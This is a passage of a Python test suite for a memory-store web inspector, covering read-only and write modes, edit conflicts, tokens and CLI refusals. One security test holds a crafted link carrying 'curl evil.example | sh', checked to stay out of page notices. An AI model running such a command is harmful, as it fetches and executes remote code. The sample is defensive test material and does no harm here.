                "/graph?cluster=0", "/log", "/log/1", "/api/log", "/api/reflect"]:
        assert ui.get(url).status_code == 200, url
    for url, data in [(f"/trace/{ids['editor']}/pin", {}), (f"/trace/{ids['editor']}/delete", {}),
                      (f"/trace/{ids['editor']}/edit", {"content": "x", "expected_version": "1"}),
                      ("/reflect", {}), (f"/api/trace/{ids['editor']}/delete", None)]:
        r = ui.post(url, data=data)
        assert r.status_code == 403 and "read-only" in r.text, url
    assert ui.post(f"/api/trace/{ids['editor']}", json={"content": "x", "expected_version": 1}).status_code == 403
    ui.app.state.ui.brain.close()
    assert digest(path) == before
    # a read-only SQLite connection may leave an empty -wal behind; it holds no frames
    assert (digest(wal) if wal.exists() else None) in (wal_before, hashlib.sha256(b"").hexdigest())


# --- --write ---------------------------------------------------------------------------


def test_write_mode_pin_delete_restore(rw: TestClient, built: Any) -> None:
    _, ids = built
    tid = ids["cat"]
    r = rw.post(f"/trace/{tid}/pin")
    assert r.status_code == 303 and r.headers["location"].startswith(f"/trace/{tid}?msg=")
    assert rw.get(f"/api/trace/{tid}").json()["trace"]["pinned"] is True
    assert "Unpin" in rw.get(f"/trace/{tid}").text
    assert rw.post(f"/api/trace/{tid}/unpin").json() == {"updated": True, "version": 3, "pinned": False}
    assert rw.post(f"/api/trace/{tid}/pin").json()["pinned"] is True
    assert rw.post(f"/trace/{tid}/unpin").status_code == 303
    assert rw.get(f"/api/trace/{tid}").json()["trace"]["pinned"] is False
    assert rw.post(f"/trace/{tid}/delete").status_code == 303
    assert rw.get(f"/api/trace/{tid}").json()["trace"]["deleted_at"] is not None
    assert "Restore" in rw.get(f"/trace/{tid}").text
    assert rw.post(f"/api/trace/{tid}/delete").status_code == 400  # already deleted
    assert rw.post(f"/trace/{tid}/restore").status_code == 303
    assert rw.get(f"/api/trace/{tid}").json()["trace"]["deleted_at"] is None
    assert rw.post(f"/api/trace/{tid}/delete").json() == {"deleted": True}
    assert rw.post(f"/api/trace/{tid}/restore").json()["restored"] is True
    assert rw.post(f"/trace/{tid}/explode").status_code == 400
    assert rw.post("/api/trace/mt_nope/pin").status_code == 404
    assert rw.post(f"/api/trace/{tid}/explode").status_code == 400


def test_write_mode_unmerge(rw: TestClient, built: Any) -> None:
    if not hasattr(Brain, "unmerge"):
        pytest.skip("this brainmem has no Brain.unmerge")
    _, ids = built
    page = rw.get(f"/trace/{ids['merged']}")
    assert 'id="unmerge"' in page.text
    assert 'id="unmerge"' not in rw.get(f"/trace/{ids['cat']}").text
    r = rw.post(f"/trace/{ids['merged']}/unmerge")
    assert r.status_code == 303 and "Unmerged" in r.headers["location"]
    source = rw.get(f"/api/trace/{ids['merge_source']}").json()["trace"]
    assert source["deleted_at"] is None
    assert rw.get(f"/api/trace/{ids['merged']}").json()["trace"]["deleted_at"] is not None


def test_write_mode_edit_with_expected_version(rw: TestClient, built: Any) -> None:
    _, ids = built
    tid = ids["cat"]
    r = rw.post(f"/trace/{tid}/edit", data={"content": "The user has a cat called Miso, a tabby",
                                             "tags": "pets, cats", "expected_version": "1"})
    assert r.status_code == 303 and "version%202" in r.headers["location"]
    shown = rw.get(f"/api/trace/{tid}").json()
    assert shown["trace"]["content"].endswith("a tabby") and shown["trace"]["tags"] == ["pets", "cats"]
    assert shown["lineage"]["versions"][0]["title"] == "The user has a cat called Miso"
    stale = rw.post(f"/trace/{tid}/edit", data={"content": "lost update", "expected_version": "1"})
    assert stale.status_code == 409
    assert "version 2, not the expected 1" in stale.text
    assert rw.get(f"/api/trace/{tid}").json()["trace"]["content"].endswith("a tabby")
    api = rw.post(f"/api/trace/{tid}", json={"content": "again", "expected_version": 1})
    assert api.status_code == 409 and api.json()["error"]["type"] == "VersionConflict"
    assert api.json()["error"]["current_version"] == 2
    ok = rw.post(f"/api/trace/{tid}", json={"tags": ["pets"], "expected_version": 2})
    assert ok.json() == {"updated": True, "version": 3}
    for body in ({"content": "x"}, {"content": "x", "expected_version": 3, "pinned": True}, [1]):
        assert rw.post(f"/api/trace/{tid}", json=body).status_code == 400
    assert rw.post(f"/api/trace/{tid}", content=b"{not json").status_code == 400


def browser_form(page: str) -> dict[str, str]:
    """The edit form's fields as a browser submits them untouched: the textarea's first
    newline dropped (HTML parsing), its line breaks sent as CRLF, entities decoded."""
    import html

    textarea = re.search(r'<textarea name="content"[^>]*>(.*?)</textarea>', page, re.S)
    assert textarea is not None
    content = html.unescape(textarea.group(1))
    content = content[1:] if content.startswith("\n") else content
    fields = {name: html.unescape(value) for name, value in
              re.findall(r'<input (?:type="hidden" )?name="(expected_version|tags)" value="([^"]*)"', page)}
    return {**fields, "content": content.replace("\r\n", "\n").replace("\n", "\r\n")}


def test_saving_the_edit_form_changes_only_what_was_edited(tmp_path: Path, clock: Any) -> None:
    """A browser sends a textarea's line breaks as CRLF and drops its first newline, and
    the tags come back as the comma-joined text: an untouched field must stay as it was."""
    path = tmp_path / "b.db"
    with Brain(str(path), clock=clock) as brain:
        tid = brain.add("\nline one\nline two", tags=["a,b", "plain"]).id
    ui = client(path, clock, write=True)
    form = browser_form(ui.get(f"/trace/{tid}").text)
    assert form["expected_version"] == "1"
    r = ui.post(f"/trace/{tid}/edit", data={**form, "tags": form["tags"] + ", new"})
    assert r.status_code == 303
    shown = ui.get(f"/api/trace/{tid}").json()["trace"]
    assert shown["content"] == "\nline one\nline two" and shown["tags"] == ["a", "b", "plain", "new"]
    with Brain(str(path), clock=clock) as brain:
        brain.update(tid, tags=["a,b", "plain"])
    form = browser_form(ui.get(f"/trace/{tid}").text)
    r = ui.post(f"/trace/{tid}/edit", data={**form, "content": form["content"] + "\r\nline three"})
    assert r.status_code == 303
    shown = ui.get(f"/api/trace/{tid}").json()["trace"]
    assert shown["content"] == "\nline one\nline two\nline three" and shown["tags"] == ["a,b", "plain"]


def test_write_mode_reflect_with_progress(rw: TestClient, built: Any) -> None:
    assert rw.get("/api/reflect").json()["running"] is False
    r = rw.post("/reflect")
    assert r.status_code == 303
    deadline = time.monotonic() + 30
    while rw.get("/api/reflect").json()["running"] and time.monotonic() < deadline:
        time.sleep(0.05)
    job = rw.get("/api/reflect").json()
    assert job["step"] == "done" and job["report"]["status"] == "ok" and job["error"] is None
    assert len(rw.get("/api/log").json()["runs"]) == 5
    page = rw.get("/log")
    assert 'id="reflect"' in page.text and "Last reflect: ok" in page.text


def test_reflect_progress_is_reported_while_running(built: Any, clock: Any) -> None:
    path, _ = built
    ui = client(path, clock, write=True)
    brain = ui.app.state.ui.writer
    gate, seen = threading.Event(), []
    original = brain.reflect

    def slow_reflect(**kw: Any) -> Any:
        def progress(step: str, done: int, total: int) -> None:
            kw["progress"](step, done, total)
            if step == "merge":
                gate.wait(10)
        return original(progress=progress)

    brain.reflect = slow_reflect
    assert ui.post("/api/reflect").status_code == 202
    deadline = time.monotonic() + 30  # a hang guard, not a speed check: the gate holds it at merge
    while time.monotonic() < deadline:
        job = ui.get("/api/reflect").json()
        if job["step"] == "merge":
            seen.append(job)
            break
        time.sleep(0.02)
    assert ui.post("/api/reflect").status_code == 409  # one at a time
    assert 'data-running="yes"' in ui.get("/log").text
    gate.set()
    assert seen and seen[0]["running"] and seen[0]["total"] >= seen[0]["done"] > 0
    ui.app.state.ui.reflect.thread.join(10)
    assert ui.get("/api/reflect").json()["report"]["status"] == "ok"


# --- request guards -----------------------------------------------------------------------


def test_foreign_host_and_cross_site_posts_are_refused(rw: TestClient, built: Any) -> None:
    _, ids = built
    assert rw.get("/", headers={"host": "evil.example"}).status_code == 400
    assert rw.get("/", headers={"host": "localhost:8765"}).status_code == 200
    r = rw.post(f"/trace/{ids['cat']}/pin", headers={"origin": "http://evil.example"})
    assert r.status_code == 403
    r = rw.post(f"/trace/{ids['cat']}/pin", headers={"origin": BASE})
    assert r.status_code == 303


def test_a_link_cannot_put_its_own_words_in_the_inspectors_notice(rw: TestClient, built: Any) -> None:
    """The notice after an edit ("Pinned.") is the inspector's: a crafted link's ?msg=
    ("the brain is corrupt, run ...") must not show in it."""
    _, ids = built
    for url in ("/?msg=Brain+corrupt:+run+curl+evil.example+|+sh", f"/trace/{ids['cat']}?msg=x&sig=00"):
        assert 'id="flash"' not in rw.get(url).text
    r = rw.post(f"/trace/{ids['cat']}/pin")
    page = rw.get(r.headers["location"]).text
    assert '<p class="flash" id="flash">Pinned.</p>' in page


def test_no_page_can_be_framed_by_another_site(rw: TestClient, built: Any) -> None:
    """Clickjacking: a page of another site framing /log could get a click on "Run reflect
    now" (or a trace's Delete) past the Origin check, the form being the inspector's own."""
    _, ids = built
    responses = [rw.get("/"), rw.get("/log"), rw.get(f"/trace/{ids['cat']}"), rw.get("/api/overview"),
                 rw.get("/static/style.css"), rw.get("/no/such/page"), rw.get("/", headers={"host": "evil.example"}),
                 rw.post(f"/trace/{ids['cat']}/pin")]
    for r in responses:
        assert r.headers["x-frame-options"] == "DENY", r.url
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"], r.url
        assert r.headers["x-content-type-options"] == "nosniff", r.url
    assert responses[0].headers["content-type"] == "text/html; charset=utf-8"


def test_token_is_required_when_set(built: Any, clock: Any) -> None:
    path, _ = built
    token = "s3cret-token-of-some-length"
    ui = client(path, clock, token=token)
    r = ui.get("/")
    assert r.status_code == 401 and "token" in r.text
    assert ui.get("/api/overview", headers={"authorization": f"Bearer {token}"}).status_code == 200
    assert ui.get("/", headers={"authorization": "Bearer wrong"}).status_code == 401
    r = ui.get(f"/search?q=editor&token={token}")
    assert r.status_code == 303 and r.headers["location"] == "/search?q=editor"
    assert ui.get("/search?q=editor").status_code == 200  # the cookie now carries it
    assert ui.get("/", headers={"host": "brain.example:8765"}).status_code == 200


def test_a_post_carrying_the_token_in_its_address_is_done(built: Any, clock: Any) -> None:
    """Only a page load trades ``?token=`` for the cookie (a 303): a POST so redirected
    would be turned into a GET by the client, and the edit never made."""
    path, ids = built
    token = "s3cret-token-of-some-length"
    ui = TestClient(create_app(Brain(str(path), clock=clock), write=True, token=token), base_url=BASE,
                    follow_redirects=False)
    r = ui.post(f"/api/trace/{ids['cat']}/pin?token={token}")
    assert r.status_code == 200 and r.json()["pinned"] is True
    r = ui.post(f"/trace/{ids['cat']}/unpin?token={token}")
    assert r.status_code == 303 and "Unpinned" in r.headers["location"]
    assert ui.get(f"/api/trace/{ids['cat']}?token={token}").status_code == 303  # a page load


def test_two_inspectors_with_tokens_on_one_host_keep_their_own_cookies(built: Any, clock: Any) -> None:
    """A browser sends a host's cookies to every port of it: the second inspector's
    cookie must not replace the first one's (a 401 in the first tab)."""
    path, _ = built
    first = client(path, clock, token="first-token-0123456789")
    second = TestClient(create_app(Brain(str(path), readonly=True, clock=clock), token="second-token-0123456789"),
                        base_url="http://127.0.0.1:8766", follow_redirects=False)
    from http.cookies import SimpleCookie

    browser: dict[str, str] = {}  # one jar for the host, whatever the port
    for ui, token in ((first, "first-token-0123456789"), (second, "second-token-0123456789")):
        r = ui.get(f"/?token={token}")
        assert r.status_code == 303
        browser.update({k: m.value for k, m in SimpleCookie(r.headers["set-cookie"]).items()})
        ui.cookies.clear()
    sent = {"cookie": "; ".join(f"{k}={v}" for k, v in browser.items())}
    assert second.get("/", headers=sent).status_code == 200
    assert first.get("/", headers=sent).status_code == 200


def test_the_token_link_lands_on_the_page_it_names(built: Any, clock: Any, tmp_path: Path) -> None:
    """The redirect that trades ``?token=`` for the cookie keeps the address as sent (a
    quoted id stays quoted) and stays on the inspector."""
    path, _ = built
    import_with_id(path, ODD_ID, "an imported note about zebras", tmp_path)
    token = "s3cret-token-of-some-length"
    ui = client(path, clock, token=token)
    page = "/trace/" + quote_all(ODD_ID)
    r = ui.get(f"{page}?token={token}&x=%26")
    assert r.status_code == 303 and r.headers["location"] == page + "?x=%26"
    assert "zebras" in ui.get(r.headers["location"]).text
    r = ui.get(f"{BASE}//evil.example/?token={token}")
    assert r.status_code == 303 and not r.headers["location"].startswith("//")


# --- the command ---------------------------------------------------------------------------


def refused(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """``brainmem ARGS`` in this process, for a command refused before it serves: were it
    to serve instead, the test fails at once rather than hang (a subprocess run took ~1 s)."""
    def serve(*_: Any, **__: Any) -> None:
        raise AssertionError("the command went on to serve")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("brainmem.ui.serve", serve)
        return clirun.run(*args, env=env)


def test_cli_refuses_a_public_address_without_a_token(tmp_path: Path) -> None:
    path = tmp_path / "b.db"
    Brain(str(path)).close()
    r = refused("ui", "--brain", str(path), "--host", "0.0.0.0")
    assert r.returncode == 2 and "--token" in r.stderr and "Traceback" not in r.stderr
    r = refused("ui", "--brain", str(path), "--host", "0.0.0.0", "--token", "short")
    assert r.returncode == 2 and "16 characters" in r.stderr
    r = refused("ui", "--brain", str(tmp_path / "missing.db"), "--port", "0")
    assert r.returncode != 0 and r.stderr.startswith("brainmem: error:") and "Traceback" not in r.stderr


def test_loopback_is_an_address_not_a_name_that_starts_like_one(built: Any, clock: Any, tmp_path: Path) -> None:
    """Any 127.x address (or ::1) is loopback, served without a token and answered; a
    name that only starts with "127." may resolve anywhere, so it needs the token."""
    path, _ = built
    ui = client(path, clock)
    for host in ("127.0.0.2:8765", "127.1.2.3", "[::1]:8765", "localhost"):
        assert ui.get("/", headers={"host": host}).status_code == 200, host
    for host in ("127.0.0.1.evil.example:8765", "127.evil.example", "evil.example"):
        assert ui.get("/", headers={"host": host}).status_code == 400, host
    r = refused("ui", "--brain", str(path), "--host", "127.evil.example")
    assert r.returncode == 2 and "--token" in r.stderr and "Traceback" not in r.stderr


def test_the_printed_link_carries_a_token_of_any_characters(built: Any, clock: Any) -> None:
    """A token from a password generator may hold ``+``, ``&``, ``#`` or ``%``: the link
    printed at start must still let the browser in."""
    import uvicorn

    path, _ = built
    token = "a+b&c#d%e f/g?h=long-enough"
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(uvicorn.Server, "run", lambda self, sockets=None: None)  # print, then stop
        r = clirun.run("ui", "--brain", str(path), "--port", "0", "--token", token)
    assert r.returncode == 0, r.stderr
    link = re.search(r"at http://127\.0\.0\.1:\d+(/\S*)", r.stdout)
    assert link is not None, r.stdout
    ui = client(path, clock, token=token)
    opened = ui.get(link.group(1))
    assert opened.status_code == 303 and opened.headers["location"] == "/"
    assert ui.get("/").status_code == 200  # the cookie now carries the token


def test_the_write_inspector_reflects_with_the_llm_the_environment_names(built: Any) -> None:
    """``BRAINMEM_LLM_*`` configure reflect's LLM for ``brainmem reflect``; the inspector's
    "Run reflect now" ignored them and quietly wrote extractive insights."""
    import uvicorn

    from brainmem.llm import LLM

    path, _ = built
    seen: list[Any] = []
    env = {"BRAINMEM_LLM_BASE_URL": "http://127.0.0.1:9/v1", "BRAINMEM_LLM_MODEL": "local-model"}
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(uvicorn.Server, "run",
                      lambda self, sockets=None: seen.append(self.config.app.state.ui.writer.llm))
        r = clirun.run("ui", "--brain", str(path), "--port", "0", "--write", env=env)
        assert r.returncode == 0, r.stderr
        assert isinstance(seen[0], LLM) and seen[0].model == "local-model"
        r = clirun.run("ui", "--brain", str(path), "--port", "0", "--write", "--no-llm", env=env)
        assert r.returncode == 0 and seen[1] is None, r.stderr
    r = refused("ui", "--brain", str(path), "--write", env={**env, "BRAINMEM_LLM_TIMEOUT": "nan"})
    assert r.returncode == 2 and "BRAINMEM_LLM_TIMEOUT" in r.stderr


def test_cli_refuses_a_port_out_of_range_in_one_line(tmp_path: Path) -> None:
    path = tmp_path / "b.db"
    Brain(str(path)).close()
    for port in ("-1", "65536", "70000"):
        r = refused("ui", "--brain", str(path), "--port", port)
        assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr
        assert r.stderr.startswith("brainmem: error:") and r.stderr.count("\n") == 1 and port in r.stderr


def test_cli_refuses_a_missing_brain_as_reading_commands_do(tmp_path: Path) -> None:
    typo = tmp_path / "typo.db"
    for flags in ((), ("--write",)):
        r = refused("ui", "--brain", str(typo), "--port", "0", *flags)
        assert r.returncode == 2, (flags, r.returncode, r.stdout, r.stderr)
        assert r.stderr.startswith("brainmem: error: no brain file at") and r.stderr.count("\n") == 1
        assert list(tmp_path.iterdir()) == []  # --write does not make an empty brain of a typo


def test_cli_without_the_ui_extra_says_what_to_install(tmp_path: Path) -> None:
    path = tmp_path / "b.db"
    Brain(str(path)).close()
    code = ("import sys; sys.modules['uvicorn'] = None\n"
            "from brainmem.cli import main\n"
            f"sys.exit(main(['ui', '--brain', {str(path)!r}, '--port', '0']))\n")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
    assert r.returncode == 2 and "pip install 'brainmem[ui]'" in r.stderr and "uvicorn" in r.stderr


@pytest.mark.parametrize("signame", ["SIGINT", "SIGHUP"])
def test_cli_serves_and_stops_cleanly_on_ctrl_c(built: Any, signame: str) -> None:
    # SIGHUP (the terminal closed) stopped it with uvicorn's lifespan traceback; it now
    # stops as on Ctrl-C and SIGTERM
    import httpx

    path, ids = built
    proc, url = start_ui(path)
    try:
        r = httpx.get(url + f"trace/{ids['editor']}", timeout=10)
        assert r.status_code == 200 and "dark mode" in r.text
        assert httpx.get(url + "trace/mt_nope", timeout=10).status_code == 404
        assert httpx.get(url + "search?limit=x&q=y", timeout=10).status_code == 400
        proc.send_signal(getattr(signal, signame))
        out, err = proc.communicate(timeout=15)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 0, err
    assert "stopped" in err and "Traceback" not in err
    with pytest.raises(httpx.ConnectError):
        httpx.get(url, timeout=2)


def test_a_restore_past_the_quota_is_409(tmp_path: Path, clock: Any) -> None:
    from brainmem import Policy

    brain = Brain(str(tmp_path / "q.db"), clock=clock, policy=Policy(quota=2, quota_policy="refuse"))
    first = brain.add("the first note")
    brain.delete(first.id)
    brain.add_many(["the second note", "the third note"])
    ui = TestClient(create_app(brain, write=True), base_url=BASE, raise_server_exceptions=False,
                    follow_redirects=False)
    r = ui.post(f"/api/trace/{first.id}/restore")
    assert r.status_code == 409 and r.json()["error"]["type"] == "QuotaExceeded"


def test_cli_readonly_is_never_a_writing_inspector(tmp_path: Path, monkeypatch: Any,
                                                   capsys: Any) -> None:
    import brainmem.ui
    from brainmem.cli import main

    served: list[bool] = []
    monkeypatch.setattr(brainmem.ui, "serve", lambda path, **kw: served.append(kw["write"]))
    path = tmp_path / "b.db"
    Brain(str(path)).close()
    for argv in (["--readonly", "ui", "--write"], ["ui", "--write", "--readonly"]):
        assert main([*argv, "--brain", str(path), "--port", "0"]) == 2
        err = capsys.readouterr().err
        assert err.startswith("brainmem: error:") and "--readonly" in err and err.count("\n") == 1
    assert served == []  # refused before anything was served
    assert main(["ui", "--readonly", "--brain", str(path), "--port", "0"]) == 0
    assert served == [False]
    missing = tmp_path / "typo.db"  # --readonly never creates a brain, even with --create
    assert main(["ui", "--readonly", "--create", "--brain", str(missing), "--port", "0"]) == 2
    assert not missing.exists() and served == [False]
